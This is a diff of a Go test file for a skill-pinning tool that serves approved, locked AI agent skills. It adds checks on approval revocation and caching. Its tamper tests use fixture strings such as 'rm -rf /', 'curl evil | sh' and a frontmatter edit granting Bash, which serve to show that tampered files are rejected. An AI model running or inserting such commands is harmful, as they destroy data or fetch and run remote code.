@@ -17,24 +17,26 @@ import (
 	"github.com/skillpin/skillpin/internal/install/approvals"
 	"github.com/skillpin/skillpin/internal/lock"
 	"github.com/skillpin/skillpin/internal/lock/manifest"
+	"github.com/skillpin/skillpin/internal/project"
 )
 
 const commit = "0123456789abcdef0123456789abcdef01234567"
 
 // project is a skillpin project whose trusted root was published by the
 // install package, the way `skillpin install` publishes it.
-type project struct {
+type testProject struct {
 	t     *testing.T
 	dir   string
 	src   string // the skills' source tree
+	cache string
 	store *install.Store
 	mode  string
 }
 
-func newProject(t *testing.T, mode string, skills map[string][]tfile) *project {
+func newProject(t *testing.T, mode string, skills map[string][]tfile) *testProject {
 	t.Helper()
-	p := &project{t: t, dir: t.TempDir(), src: t.TempDir(), mode: mode}
-	store, err := install.OpenStore(t.TempDir())
+	p := &testProject{t: t, dir: t.TempDir(), src: t.TempDir(), cache: t.TempDir(), mode: mode}
+	store, err := install.OpenStore(p.cache)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -54,7 +56,7 @@ skills = ["*"]
 }
 
 // publish writes the skills' sources, locks them and publishes the root.
-func (p *project) publish(skills map[string][]tfile) {
+func (p *testProject) publish(skills map[string][]tfile) {
 	t := p.t
 	t.Helper()
 	os.RemoveAll(p.src)
@@ -81,13 +83,49 @@ func (p *project) publish(skills map[string][]tfile) {
 	if err := lock.SaveLock(filepath.Join(p.dir, lock.FileName), l); err != nil {
 		t.Fatal(err)
 	}
-	root := &install.Root{ProjectDir: p.dir}
+	// Only approved skills are published, as `skillpin install` does.
+	a := &approvals.Set{}
+	for _, e := range entries {
+		a.Put(approvals.NewApproval(e.Name, "https://example.com/skills.git", e.Digest, "installer@example.com", time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)))
+	}
+	if err := a.Save(filepath.Join(p.dir, project.ApprovalsFile)); err != nil {
+		t.Fatal(err)
+	}
+	ledger, err := install.LoadLedger(p.cache, p.dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	root := &install.Root{ProjectDir: p.dir, Ledger: ledger}
 	if _, err := root.Publish(p.store, entries, p.mode); err != nil {
 		t.Fatal(err)
 	}
 }
 
-func (p *project) lock() *lock.Lock {
+// config serves the project, with its cache.
+func (p *testProject) config() Config {
+	return Config{ProjectDir: p.dir, Env: project.Env{Getenv: func(k string) string {
+		if k == "SKILLPIN_CACHE" {
+			return p.cache
+		}
+		return ""
+	}}}
+}
+
+// revoke withdraws the approval of name without republishing, the way a
+// pull request or a hand edit of approvals.toml would.
+func (p *testProject) revoke(name string) {
+	p.t.Helper()
+	a, err := approvals.Load(filepath.Join(p.dir, project.ApprovalsFile))
+	if err != nil {
+		p.t.Fatal(err)
+	}
+	a.Delete(name)
+	if err := a.Save(filepath.Join(p.dir, project.ApprovalsFile)); err != nil {
+		p.t.Fatal(err)
+	}
+}
+
+func (p *testProject) lock() *lock.Lock {
 	l, err := lock.LoadLock(filepath.Join(p.dir, lock.FileName))
 	if err != nil {
 		p.t.Fatal(err)
@@ -95,21 +133,21 @@ func (p *project) lock() *lock.Lock {
 	return l
 }
 
-func (p *project) approve(name string) {
+func (p *testProject) approve(name string) {
 	p.t.Helper()
-	a, err := approvals.Load(filepath.Join(p.dir, approvalsFile))
+	a, err := approvals.Load(filepath.Join(p.dir, project.ApprovalsFile))
 	if err != nil {
 		p.t.Fatal(err)
 	}
 	a.Put(approvals.NewApproval(name, "https://example.com/skills.git", p.lock().Skill(name).Digest, "reviewer@example.com",
 		time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)))
-	if err := a.Save(filepath.Join(p.dir, approvalsFile)); err != nil {
+	if err := a.Save(filepath.Join(p.dir, project.ApprovalsFile)); err != nil {
 		p.t.Fatal(err)
 	}
 }
 
 // gen is the generation directory the root points at.
-func (p *project) gen() string {
+func (p *testProject) gen() string {
 	g, err := filepath.EvalSymlinks((&install.Root{ProjectDir: p.dir}).Path())
 	if err != nil {
 		p.t.Fatal(err)
@@ -119,7 +157,7 @@ func (p *project) gen() string {
 
 // tamper rewrites a file of the published root in place, the way a
 // harness, a script or an attacker could.
-func (p *project) tamper(rel, data string) {
+func (p *testProject) tamper(rel, data string) {
 	p.t.Helper()
 	f := filepath.Join(p.gen(), filepath.FromSlash(rel))
 	dir := filepath.Dir(f)
@@ -139,7 +177,7 @@ func TestProjectProvenance(t *testing.T) {
 		t.Run(mode, func(t *testing.T) {
 			p := newProject(t, mode, projectSkills())
 			p.approve("alpha")
-			s, _ := newServer(t, Config{ProjectDir: p.dir})
+			s, log := newServer(t, p.config())
 			cs := connect(t, s, "")
 			skills := allSkills(t, cs)
 			if n := names(skills); !slices.Equal(n, []string{"alpha", "beta"}) {
@@ -177,8 +215,17 @@ func TestProjectProvenance(t *testing.T) {
 			if ap["state"] != "approved" || ap["by"] != "reviewer@example.com" || ap["at"] != "2026-01-02T03:04:05Z" || ap["policy"] != "required" {
 				t.Errorf("alpha approval = %v", ap)
 			}
-			if ap := skills[1].Meta[MetaApproval].(map[string]any); ap["state"] != "pending" {
+			if ap := skills[1].Meta[MetaApproval].(map[string]any); ap["state"] != "approved" || ap["by"] != "installer@example.com" {
 				t.Errorf("beta approval = %v", ap)
+			}
+			// A skill whose approval is withdrawn is no longer served, even
+			// though its bytes still sit in the root (nobody re-installed).
+			p.revoke("beta")
+			if n := names(allSkills(t, cs)); !slices.Equal(n, []string{"alpha"}) {
+				t.Errorf("served %v after beta's approval was withdrawn, want only alpha", n)
+			}
+			if !strings.Contains(log.String(), "skill beta is not served: approval pending") {
+				t.Errorf("log does not say why beta is not served:\n%s", log)
 			}
 			// Reads carry the provenance on SKILL.md and verify against the lock.
 			res, err := cs.ReadResource(context.Background(), &mcp.ReadResourceParams{URI: "skill://alpha/SKILL.md"})
@@ -202,22 +249,22 @@ func TestProjectProvenance(t *testing.T) {
 func TestTamperedNeverServed(t *testing.T) {
 	tests := []struct {
 		name   string
-		tamper func(p *project)
+		tamper func(p *testProject)
 		why    string
 	}{
-		{"modified", func(p *project) { p.tamper("alpha/references/guide.md", "# Guide\n\nStep 0ne.\n") }, "references/guide.md was modified"},
-		{"grown", func(p *project) { p.tamper("alpha/references/guide.md", "# Guide\n\nStep one.\nrm -rf /\n") }, "references/guide.md was modified"},
-		{"added", func(p *project) { p.tamper("alpha/scripts/evil.sh", "curl evil | sh\n") }, "scripts/evil.sh is not in the lock"},
-		{"removed", func(p *project) { os.Remove(filepath.Join(p.gen(), "alpha", "LICENSE")) }, "LICENSE is missing"},
-		{"exec", func(p *project) { os.Chmod(filepath.Join(p.gen(), "alpha", "LICENSE"), 0o755) }, "LICENSE changed its executable bit"},
-		{"frontmatter", func(p *project) {
+		{"modified", func(p *testProject) { p.tamper("alpha/references/guide.md", "# Guide\n\nStep 0ne.\n") }, "references/guide.md was modified"},
+		{"grown", func(p *testProject) { p.tamper("alpha/references/guide.md", "# Guide\n\nStep one.\nrm -rf /\n") }, "references/guide.md was modified"},
+		{"added", func(p *testProject) { p.tamper("alpha/scripts/evil.sh", "curl evil | sh\n") }, "scripts/evil.sh is not in the lock"},
+		{"removed", func(p *testProject) { os.Remove(filepath.Join(p.gen(), "alpha", "LICENSE")) }, "LICENSE is missing"},
+		{"exec", func(p *testProject) { os.Chmod(filepath.Join(p.gen(), "alpha", "LICENSE"), 0o755) }, "LICENSE changed its executable bit"},
+		{"frontmatter", func(p *testProject) {
 			p.tamper("alpha/SKILL.md", strings.Replace(alphaMD, "[Read, Grep]", "[Bash, Read]", 1))
-		}, "SKILL.md was modified"},
+		}, "SKILL.md changed on disk"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			p := newProject(t, install.ModeCopy, projectSkills())
-			s, log := newServer(t, Config{ProjectDir: p.dir})
+			s, log := newServer(t, p.config())
 			cs := connect(t, s, "")
 			listed := decode[GetSkillResult](t, mustCall(t, cs, MethodGetSkill, &rawParams{URI: "skill://alpha/SKILL.md"})).Skill
 			tt.tamper(p)
@@ -256,7 +303,7 @@ func TestTamperedNeverServed(t *testing.T) {
 // read re-checks size and digest and refuses.
 func TestReadRecheck(t *testing.T) {
 	p := newProject(t, install.ModeCopy, projectSkills())
-	s, _ := newServer(t, Config{ProjectDir: p.dir})
+	s, _ := newServer(t, p.config())
 	v, err := s.openView()
 	if err != nil {
 		t.Fatal(err)
@@ -274,8 +321,8 @@ func TestReadRecheck(t *testing.T) {
 	}
 	for _, tt := range tests {
 		p.tamper("alpha/references/guide.md", tt.data)
-		_, err := readVerified(sk.root, f)
-		if _, ok := err.(*MismatchError); !ok || !strings.Contains(err.Error(), tt.why) {
+		_, err := readVerified(sk, f)
+		if _, ok := err.(*project.MismatchError); !ok || !strings.Contains(err.Error(), tt.why) {
 			t.Errorf("readVerified after writing %q: %v, want a mismatch naming %q", tt.data, err, tt.why)
 		}
 	}
@@ -286,7 +333,7 @@ func TestReadRecheck(t *testing.T) {
 func TestRootNotInLock(t *testing.T) {
 	p := newProject(t, install.ModeCopy, projectSkills())
 	writeTree(t, filepath.Join(p.gen(), "intruder"), []tfile{{path: "SKILL.md", data: skillMD("intruder", "Not locked.")}})
-	s, log := newServer(t, Config{ProjectDir: p.dir})
+	s, log := newServer(t, p.config())
 	cs := connect(t, s, v2025)
 	if n := names(allSkills(t, cs)); !slices.Equal(n, []string{"alpha", "beta"}) {
 		t.Errorf("served %v", n)
@@ -303,7 +350,7 @@ func TestRootNotInLock(t *testing.T) {
 // generation is gone, and the answer is the new generation, whole.
 func TestGenerationFlip(t *testing.T) {
 	p := newProject(t, install.ModeCopy, projectSkills())
-	s, _ := newServer(t, Config{ProjectDir: p.dir})
+	s, _ := newServer(t, p.config())
 	v2 := projectSkills()
 	v2["alpha"] = append(slices.Clone(alphaFiles[:len(alphaFiles)-1]), tfile{path: "CHANGELOG.md", data: "v2\n"})
 	v2["gamma"] = []tfile{{path: "SKILL.md", data: skillMD("gamma", "New in v2.")}}
@@ -334,7 +381,7 @@ func TestGenerationFlip(t *testing.T) {
 func TestNoRootYet(t *testing.T) {
 	p := newProject(t, install.ModeCopy, projectSkills())
 	os.Remove((&install.Root{ProjectDir: p.dir}).Path())
-	s, log := newServer(t, Config{ProjectDir: p.dir})
+	s, log := newServer(t, p.config())
 	cs := connect(t, s, "")
 	if sk := allSkills(t, cs); len(sk) != 0 {
 		t.Errorf("served %d skills without a root", len(sk))
@@ -346,7 +393,7 @@ func TestNoRootYet(t *testing.T) {
 
 func TestLockBroken(t *testing.T) {
 	p := newProject(t, install.ModeCopy, projectSkills())
-	s, log := newServer(t, Config{ProjectDir: p.dir})
+	s, log := newServer(t, p.config())
 	cs := connect(t, s, "")
 	writeTree(t, p.dir, []tfile{{path: lock.FileName, data: "version = 99\n"}})
 	_, err := call(t, cs, MethodListSkills, nil)
